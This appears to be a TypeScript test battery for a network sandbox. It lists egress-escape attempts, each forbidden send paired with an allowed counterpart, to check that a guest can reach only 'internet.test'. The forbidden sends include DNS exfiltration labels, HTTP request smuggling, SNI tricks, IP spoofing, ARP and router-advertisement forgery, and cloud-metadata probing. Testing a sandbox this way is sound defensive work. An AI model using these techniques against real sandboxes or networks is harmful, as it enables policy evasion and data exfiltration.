import { world } from "../network-lab.ts";

/**
 * What a guest may try to get out, each with its counterpart: the same by the same means, where the policy allows it. Both are expressions of `guest-program.py`.
 *
 * The policy: everything is denied but `*.internet.test`, `internet.test`, and one address.
 */
export interface Attempt {
  readonly name: string;
  /** Nothing of it may arrive anywhere */
  readonly forbidden: string;
  readonly allowed: string;
  /** What the judge then has seen */
  readonly evidence: RegExp;
}

/** Where the policy lets the guest go by address, and where by no way. */
export const goal = { allowed: world.streams, forbidden: world.elsewhere } as const;
const [yes, no] = [goal.allowed, goal.forbidden];
const { internet, resolver } = world;

export interface BatteryPlace {
  /** The host's end of the slot's veth pair */
  readonly hostAddress: string;
  /** The guest's slot, as the host sees it */
  readonly slotAddress: string;
  /** Another sandbox's slot: both ends of its veth pair */
  readonly otherAddresses: readonly string[];
  /** Ports where the host listens, on all its addresses */
  readonly hostPorts: readonly number[];
  readonly hostAddresses: readonly string[];
  /** The gateway's listener for HTTP */
  readonly gatewayPort: number;
}

/** Each attempt has two: one that must not be seen, which is even, and the next one for its counterpart */
const firstPort = 20_000;
/** Of requests that must not be seen by anyone */
export const forbiddenMark = "forbidden";

const dword = (address: string) => address.split(".").reduce((value, part) => value * 256 + Number(part), 0);
const octal = (address: string) =>
  address
    .split(".")
    .map((part) => `0${Number(part).toString(8)}`)
    .join(".");
const hex = (address: string) => `0x${dword(address).toString(16).padStart(8, "0")}`;
const short = (address: string) => `${address.split(".")[0]}.${dword(address) % 2 ** 24}`;
const mapped = (address: string) => `::ffff:${address}`;

/** By an address, with a port of its own: `make` says how, for the address and port that it is given. */
function byAddress(name: string, make: (address: string, port: number) => string, protocol = "(tcp|udp)") {
  return (port: number): Attempt => ({
    name,
    forbidden: make(no, port),
    allowed: make(yes, port + 1),
    evidence: new RegExp(`^world ${protocol} ${yes} ${port + 1}$`),
  });
}

/** By a way that has no address to be allowed, such as IPv6: the counterpart is what the same program reaches by IPv4. */
function without(name: string, forbidden: string) {
  return (port: number): Attempt => ({
    name,
    forbidden,
    allowed: `raw_udp("${yes}", ${port + 1})`,
    evidence: new RegExp(`^world udp ${yes} ${port + 1}$`),
  });
}

/** To an address that no guest reaches, by TCP, UDP and ICMP. */
const unreachable = (name: string, address: string) => (port: number) =>
  without(
    `${name}: ${address}`,
    `several(lambda: tcp("${address}", 80, b"GET /${forbiddenMark} HTTP/1.1\\r\\nHost: internet.test\\r\\n\\r\\n"), lambda: udp("${address}", ${port}, broadcast=True), lambda: icmp("${address}"), lambda: raw_tcp("${address}", ${port}))`,
  )(port);

/** An IP protocol that has no ports. */
const anyPacket = (number: number) => (address: string) => `packet(${number}, "${address}", ip(17, "${address}", udp_segment(9)))`;
const protocolOf =
  (name: string, number: number, make = anyPacket(number)) =>
  (): Attempt => ({
    name: `${name} (IP protocol ${number})`,
    forbidden: make(no),
    allowed: make(yes),
    evidence: new RegExp(`^world protocol ${yes} ${number}$`),
  });

/** An HTTP request that says in some way that it is for somebody else. */
function byHttp(name: string, forbidden: string) {
  return (port: number): Attempt => ({
    name,
    forbidden: forbidden.replaceAll("MARK", `${forbiddenMark}-${port}`),
    allowed: `http("internet.test", "${no}", "allowed-${port}")`,
    evidence: new RegExp(`^tcp ${internet} 80 .*GET /allowed-${port} `),
  });
}

/** `MINE` in what is allowed is a name of this attempt alone. */
function byTls(name: string, forbidden: string, allowed: string) {
  return (port: number): Attempt => ({
    name,
    forbidden,
    allowed: allowed.replace("MINE", `t${port}.internet.test`),
    evidence: new RegExp(`^tcp ${internet} 443 .*t${port}`),
  });
}

/** A name that leads somewhere, by HTTP and TLS, with the guest's own belief and without. */
const byName = (name: string, host: string) =>
  byHttp(
    name,
    `several(${Array.from({ length: 3 }, () => `lambda: http("${host}", "${internet}", "to-${host}")`).join(", ")}, lambda: tls("${host}", "${internet}"), lambda: dns("${resolver}", "${host}"))`,
  );

const crlf = String.raw`\r\n`;
const spoofed =
  (name: string, source: string, send: string) =>
  (port: number): Attempt => ({
    name,
    forbidden: `${send}("${yes}", ${port}, source="${source}")`,
    allowed: `${send}("${yes}", ${port + 1})`,
    evidence: new RegExp(`^world (tcp|udp) ${yes} ${port + 1}$`),
  });

type Make = (port: number) => Attempt;

function notations(): Make[] {
  return [
    byAddress("an address", (address, port) => `tcp("${address}", ${port})`),
    byAddress("an address in octal", (address, port) => `tcp("${octal(address)}", ${port})`),
    byAddress("an address in hexadecimal", (address, port) => `tcp("${hex(address)}", ${port})`),
    byAddress("an address as one number", (address, port) => `tcp("${dword(address)}", ${port})`),
    byAddress("an address in two parts", (address, port) => `tcp("${short(address)}", ${port})`),
    byAddress("an address mapped into IPv6", (address, port) => `tcp("${mapped(address)}", ${port}, family=socket.AF_INET6)`),
    byAddress("a datagram", (address, port) => `udp("${address}", ${port})`),
    byAddress("a datagram to an address mapped into IPv6", (address, port) => `udp("${mapped(address)}", ${port}, family=socket.AF_INET6)`),
    byAddress("a packet made by hand: SYN", (address, port) => `raw_tcp("${address}", ${port})`, "tcp"),
    byAddress("a packet made by hand: ACK of no connection", (address, port) => `raw_tcp("${address}", ${port}, 16)`, "tcp"),
    byAddress("a datagram from port 53", (address, port) => `raw_udp("${address}", ${port}, sport=53)`, "udp"),
    byAddress("a datagram that lives for two hops", (address, port) => `raw_udp("${address}", ${port}, ttl=3)`, "udp"),
    byAddress("fragments, the first without a whole header", (address, port) => `fragments("${address}", ${port})`, "udp"),
  ];
}

function ipv6(): Make[] {
  const socket6 = (host: string) =>
    `several(lambda: tcp("${host}", 80, family=socket.AF_INET6), lambda: udp("${host}", 9, family=socket.AF_INET6))`;
  return [
    without("IPv6: a global address", socket6("2001:db8::1")),
    without("IPv6: NAT64", socket6(`64:ff9b::${no}`)),
    without("IPv6: 6to4", socket6("2002:0b4d:0002::1")),
    without("IPv6: IPv4-compatible", socket6(`::${no}`)),
    without("IPv6: metadata", socket6("fd00:ec2::254")),
    without("IPv6: all nodes on the link", socket6("ff02::1%eth0")),
    without("IPv6: frames to a global address", `ip6(17, "fe80::5", "2001:db8::1", udp_segment(9), GATEWAY_MAC)`),
    without("IPv6: a router solicitation", `ip6(58, "fe80::5", "ff02::2", b"\\x85\\0\\0\\0\\0\\0\\0\\0", b"\\x33\\x33\\0\\0\\0\\2")`),
    without("IPv6: a forged router advertisement", `ip6(58, "fe80::5", "ff02::1", b"\\x86\\0\\0\\0\\x40\\0\\x07\\x08" + bytes(8))`),
    without("IPv6: a forged neighbour advertisement", `ip6(58, "fe80::5", "ff02::1", b"\\x88\\0\\0\\0\\x60\\0\\0\\0" + bytes(16))`),
    without("IPv6 within IPv4", `packet(41, "${no}")`),
  ];
}

function names(): Make[] {
  const asksFor =
    (name: string, host: string, kind: number) =>
    (port: number): Attempt => ({
      name,
      forbidden: `dns("${resolver}", "${host}", ${kind})`,
      allowed: `dns("${resolver}", "n${port}.internet.test")`,
      evidence: new RegExp(`^asked n${port}\\.internet\\.test$`),
    });
  return [
    asksFor("a name that is not allowed", "elsewhere.test", 1),
    asksFor("a message in a name", "6578666974726174696f6e.elsewhere.test", 1),
    asksFor("a message in a name, asked for its TXT", "6578666974726174696f6e.elsewhere.test", 16),
    asksFor("a name that only ends like an allowed one", "notinternet.test", 1),
    asksFor("a name with an allowed one before it", "internet.test.elsewhere.test", 1),
    without("DNS by TCP", `dns_tcp("${resolver}", "elsewhere.test")`),
    without("DNS of another server", `dns("${no}", "elsewhere.test")`),
    without("DNS of an allowed name's server", `dns("${internet}", "elsewhere.test")`),
    without("DNS over TLS", `tcp("${no}", 853, records(hello("internet.test")))`),
    without(
      "no question at all",
      `several(lambda: udp("${resolver}", 53, b"exfiltration"), lambda: udp("${resolver}", 53, question("a.b") + b"exfiltration"))`,
    ),
    byName("rebinding: an allowed name that is private the second time", "rebind.internet.test"),
    byName("an allowed name that is an alias of an alias of a private one", "alias.internet.test"),
    byName("an allowed name that is the metadata server's", "metadata.internet.test"),
    byName("an allowed name that is the host's loopback", "loopback.internet.test"),
    byName("an allowed name that is another guest's range", "neighbour.internet.test"),
  ];
}

function requests(): Make[] {
  const to = (head: string) => `http("internet.test", "${internet}", "MARK", "${head}")`;
  return [
    byHttp("HTTP: another Host", `http("elsewhere.test", "${internet}", "MARK")`),
    byHttp("HTTP: an address as Host", `http("${no}", "${internet}", "MARK")`),
    byHttp("HTTP: no Host", to(`GET {path} HTTP/1.1${crlf}${crlf}`)),
    byHttp("HTTP: two Hosts", to(`GET {path} HTTP/1.1${crlf}Host: {host}${crlf}Host: elsewhere.test${crlf}${crlf}`)),
    byHttp("HTTP: a second Host with a space", to(`GET {path} HTTP/1.1${crlf}Host: {host}${crlf}Host : elsewhere.test${crlf}${crlf}`)),
    byHttp(
      "HTTP: a second Host in a folded line",
      to(`GET {path} HTTP/1.1${crlf}Host: {host}${crlf}A: b${crlf} Host: elsewhere.test${crlf}${crlf}`),
    ),
    byHttp(
      "HTTP: a Host behind a bare line feed",
      to(String.raw`GET {path} HTTP/1.1\r\nA: b\nHost: elsewhere.test\r\nHost: {host}\r\n\r\n`),
    ),
    byHttp("HTTP: a target that says another host", to(`GET http://elsewhere.test{path} HTTP/1.1${crlf}Host: {host}${crlf}${crlf}`)),
    byHttp("HTTP: CONNECT", to(`CONNECT elsewhere.test:443 HTTP/1.1${crlf}Host: {host}${crlf}X: {path}${crlf}${crlf}`)),
    byHttp(
      "HTTP: a request hidden by Content-Length and chunks",
      to(
        `POST {path} HTTP/1.1${crlf}Host: {host}${crlf}Content-Length: 6${crlf}Transfer-Encoding: chunked${crlf}${crlf}0${crlf}${crlf}GET {path} HTTP/1.1${crlf}Host: elsewhere.test${crlf}${crlf}`,
      ),
    ),
    byHttp(
      "HTTP: a request hidden by chunks and Content-Length",
      to(
        `POST {path} HTTP/1.1${crlf}Host: {host}${crlf}Transfer-Encoding: chunked${crlf}Content-Length: 4${crlf}${crlf}5c${crlf}GET {path} HTTP/1.1${crlf}Host: elsewhere.test${crlf}${crlf}0${crlf}${crlf}`,
      ),
    ),
    byHttp(
      "HTTP: two lengths",
      to(`POST {path} HTTP/1.1${crlf}Host: {host}${crlf}Content-Length: 1${crlf}Content-Length: 60${crlf}${crlf}x`),
    ),
    byHttp("HTTP/2 without TLS", `tcp("${internet}", 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + b"MARK")`),
    byHttp("another protocol on port 80", `tcp("${no}", 80, b"SSH-2.0-MARK\\r\\n")`),
    byHttp("HTTP: what a redirect says", `several(lambda: http("elsewhere.test", "${no}", "MARK"), lambda: tcp("elsewhere.test", 80))`),
    (port) => ({
      name: "HTTP: a second request for another host",
      forbidden: `tcp("${no}", 80, b"GET /first HTTP/1.1\\r\\nHost: internet.test\\r\\n\\r\\n", b"GET /second HTTP/1.1\\r\\nHost: elsewhere.test\\r\\n\\r\\n")`,
      allowed: `http("redirect.internet.test", "${no}", "allowed-${port}")`,
      evidence: new RegExp(`^tcp ${world.redirects} 80 .*GET /allowed-${port} `),
    }),
  ];
}

function greetings(): Make[] {
  const good = `tls("MINE", "${no}")`;
  return [
    byTls("TLS: another name", `tls("elsewhere.test", "${internet}")`, good),
    byTls("TLS: no name, to an allowed name's address", `tls(None, "${internet}")`, good),
    byTls("TLS: no name, to another address", `tls(None, "${no}")`, good),
    byTls(
      "TLS: an encrypted greeting (ECH) under another name",
      `tls("elsewhere.test", "${internet}", extra=ECH)`,
      `tls("MINE", "${no}", extra=ECH)`,
    ),
    byTls("TLS: the greeting in many segments", `tls("elsewhere.test", "${internet}", 12)`, `tls("MINE", "${no}", 12)`),
    byTls("TLS: the greeting in many records", `tls("elsewhere.test", "${internet}", 1, 40)`, `tls("MINE", "${no}", 1, 40)`),
    byTls("TLS: the greeting in records and segments", `tls("elsewhere.test", "${internet}", 9, 30)`, `tls("MINE", "${no}", 9, 30)`),
    byTls("TLS: a greeting with the name cut off", `tcp("${internet}", 443, records(hello("internet.test"))[:60])`, good),
    byTls("another protocol on port 443", `tcp("${no}", 443, b"SSH-2.0-${forbiddenMark}\\r\\n")`, good),
    byAddress("QUIC", (address, port) => `udp("${address}", ${port}, b"\\xc0\\0\\0\\0\\1" + bytes(1195))`, "udp"),
    without("QUIC on port 443, to an allowed name's address", `udp("${internet}", 443, b"\\xc0\\0\\0\\0\\1" + bytes(1195))`),
    without("TCP on another port, to an allowed name's address", `tcp("${internet}", 8443, records(hello("internet.test")))`),
  ];
}

function protocols(): Make[] {
  return [
    (): Attempt => ({
      name: "ICMP echo",
      forbidden: `icmp("${no}")`,
      allowed: `icmp("${yes}")`,
      evidence: new RegExp(`^world icmp ${yes} 8$`),
    }),
    (): Attempt => ({
      name: "ICMP timestamp",
      forbidden: `icmp("${no}", 13, 0, bytes(16))`,
      allowed: `icmp("${yes}", 13, 0, bytes(16))`,
      evidence: new RegExp(`^world icmp ${yes} 13$`),
    }),
    without(
      "ICMP: an error about a connection that is not there",
      `icmp("${no}", 3, 1, bytes(4) + ip(17, "${internet}", udp_segment(9), source="${no}"))`,
    ),
    without("ICMP: a redirect to the gateway", `icmp(GATEWAY, 5, 1, socket.inet_aton(GUEST) + ip(17, "${no}", udp_segment(9)))`),
    protocolOf("IPIP", 4),
    protocolOf("GRE", 47),
    protocolOf("ESP", 50),
    protocolOf("SCTP", 132, (address) => `sctp("${address}")`),
    protocolOf("a reserved protocol", 255),
    without("IGMP", `packet(2, "224.0.0.22", b"\\x16\\0\\0\\0" + socket.inet_aton("239.1.1.1"))`),
    (port) =>
      without(
        "source routing, strict",
        `raw_udp("${yes}", ${port}, options=b"\\x89\\x07\\x04" + socket.inet_aton("${no}") + b"\\0")`,
      )(port),
    (port) =>
      without("source routing, loose", `raw_udp("${yes}", ${port}, options=b"\\x83\\x07\\x04" + socket.inet_aton("${no}") + b"\\0")`)(port),
    (port) => without("a recorded route", `raw_udp("${yes}", ${port}, options=b"\\x07\\x07\\x04\\0\\0\\0\\0\\0")`)(port),
    without("a frame with a VLAN", `frame(struct.pack("!HH", 5, 0x0800) + ip(17, "${no}", udp_segment(9)), 0x8100)`),
    without("DHCP", `frame(ip(17, "255.255.255.255", udp_segment(67, bytes(240), 68), source="0.0.0.0"), 0x0800, b"\\xff" * 6)`),
  ];
}

function disguises({ slotAddress, otherAddresses }: BatteryPlace): Make[] {
  const other = otherAddresses.at(-1) ?? "";
  return [
    spoofed("another's address as source", "11.99.9.9", "raw_udp"),
    spoofed("another's address as source, by TCP", "11.99.9.9", "raw_tcp"),
    spoofed("the gateway's address as source", "169.254.0.22", "raw_udp"),
    spoofed("another slot's address as source", other, "raw_udp"),
    spoofed("its own slot's address as source", slotAddress, "raw_udp"),
    spoofed("a loopback address as source", "127.0.0.1", "raw_udp"),
    spoofed("a multicast address as source", "224.0.0.1", "raw_udp"),
    spoofed("no address as source", "0.0.0.0", "raw_udp"),
    without("ARP: another's address as its own", `arp("${no}", GATEWAY)`),
    without("ARP: the gateway's address as its own", `several(lambda: arp(GATEWAY, GATEWAY), lambda: arp(GATEWAY, GUEST, 2))`),
    without("ARP: another card for its own address", `arp(GUEST, GATEWAY, mac="02aabbccddee")`),
    without("ARP: where others are", `several(*[lambda a=a: arp(GUEST, a) for a in ["${no}", "${slotAddress}", "${other}"]])`),
  ];
}

function neighbours(place: BatteryPlace): Make[] {
  const { hostAddress, otherAddresses, hostPorts, hostAddresses, gatewayPort } = place;
  const ports = JSON.stringify(hostPorts);
  const allPorts = (address: string) =>
    `several(*[lambda p=p: tcp("${address}", p, b"${forbiddenMark}") for p in ${ports}], *[lambda p=p: udp("${address}", p) for p in ${ports}])`;
  return [
    ...otherAddresses.map((address) =>
      without(
        `another guest's slot: ${address}`,
        `several(*[lambda p=p: tcp("${address}", p) for p in [22, 80, 443, 8080, 49983]], lambda: raw_udp("${address}", 53), lambda: icmp("${address}"))`,
      ),
    ),
    ...hostAddresses.map((address) => without(`the host's listeners: ${address}`, allPorts(address))),
    without("the host's listeners: the gateway", allPorts("169.254.0.22")),
    without("the egress gateway's own port", `http("internet.test", "${hostAddress}", "${forbiddenMark}-gateway", port=${gatewayPort})`),
    unreachable("metadata", "169.254.169.254"),
    unreachable("link-local", "169.254.1.1"),
    unreachable("the link's own network", "169.254.0.20"),
    unreachable("the link's broadcast", "169.254.0.23"),
    unreachable("broadcast", "255.255.255.255"),
    unreachable("multicast, all systems", "224.0.0.1"),
    unreachable("multicast, mDNS", "224.0.0.251"),
    unreachable("multicast, SSDP", "239.255.255.250"),
    unreachable("this network", "0.0.0.1"),
    unreachable("reserved", "240.0.0.1"),
    unreachable("shared (CGNAT)", "100.64.77.1"),
    unreachable("private", "10.77.0.1"),
    unreachable("private", "172.16.77.1"),
    unreachable("private", "192.168.77.1"),
    unreachable("protocol assignments", "192.0.0.8"),
    unreachable("6to4 relays", "192.88.99.1"),
    unreachable("benchmarking, where the slots are", "198.18.255.77"),
    without("loopback, in a frame to the gateway", `several(lambda: raw_udp("127.0.0.1", 53), lambda: raw_tcp("127.0.0.1", 80))`),
    unreachable("the resolver, on another port", resolver),
  ];
}

export function attempts(place: BatteryPlace): Attempt[] {
  const all = [
    ...notations(),
    ...ipv6(),
    ...names(),
    ...requests(),
    ...greetings(),
    ...protocols(),
    ...disguises(place),
    ...neighbours(place),
  ];
  return all.map((make, index) => make(firstPort + 2 * index));
}
